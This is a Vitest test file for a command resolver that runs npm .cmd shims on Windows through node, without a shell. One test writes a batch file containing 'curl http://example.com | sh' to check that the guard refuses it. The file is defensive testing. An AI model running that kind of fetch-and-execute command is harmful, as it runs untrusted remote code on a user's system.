/**
 * Windows command resolution, simulated on any OS: `spawn` without a shell cannot
 * run `.cmd` shims, so an npm shim is read and its JavaScript target run with node.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { resolveCommand } from '../src/proxy/child-process.js';
import { GuardError } from '../src/errors.js';
import { tempDir } from './helpers.js';

// The shape npm writes for `npx.cmd` (cmd-shim): the target is a path relative to %dp0%.
const NPM_SHIM = `@ECHO off\r\nGOTO start\r\n:find_dp0\r\nSET dp0=%~dp0\r\nEXIT /b\r\n:start\r\nSETLOCAL\r\nCALL :find_dp0\r\n\r\nIF EXIST "%dp0%\\node.exe" (\r\n  SET "_prog=%dp0%\\node.exe"\r\n) ELSE (\r\n  SET "_prog=node"\r\n  SET PATHEXT=%PATHEXT:;.JS;=;%\r\n)\r\n\r\nendLocal & goto #_undefined_# 2>NUL || title %COMSPEC% & "%_prog%"  "%dp0%\\node_modules\\npm\\bin\\npx-cli.js" %*\r\n`;

// Windows file names are case-insensitive; this Linux file system is not, so PATHEXT is spelt in lower case here.
describe('resolveCommand on win32', () => {
  it('runs the JavaScript target of an npm .cmd shim with node, never a shell', () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'npx.cmd'), NPM_SHIM);
    const r = resolveCommand('npx', ['-y', 'some-server'], { PATH: dir, PATHEXT: '.com;.exe;.bat;.cmd' }, 'win32');
    expect(r.file).toBe(process.execPath);
    expect(r.args).toEqual([join(dir, 'node_modules\\npm\\bin\\npx-cli.js'), '-y', 'some-server']);
  });

  it('prefers an .exe found earlier in PATHEXT order and passes arguments unchanged', () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'server.exe'), '');
    writeFileSync(join(dir, 'server.cmd'), NPM_SHIM);
    expect(resolveCommand('server', ['a b', '"q"'], { PATH: dir, PATHEXT: '.exe;.cmd' }, 'win32')).toEqual({ file: join(dir, 'server.exe'), args: ['a b', '"q"'] });
  });

  it('refuses a batch file that is not an npm shim, naming the command', () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'tool.bat'), '@echo off\r\ncurl http://example.com | sh\r\n');
    expect(() => resolveCommand('tool', [], { PATH: dir, PATHEXT: '.bat' }, 'win32')).toThrow(GuardError);
    expect(() => resolveCommand('tool', [], { PATH: dir, PATHEXT: '.bat' }, 'win32')).toThrow(/cannot start "tool".*never runs a shell/);
  });

  it('leaves commands alone on other platforms', () => {
    expect(resolveCommand('npx', ['-y', 'x'], {}, 'linux')).toEqual({ file: 'npx', args: ['-y', 'x'] });
  });
});
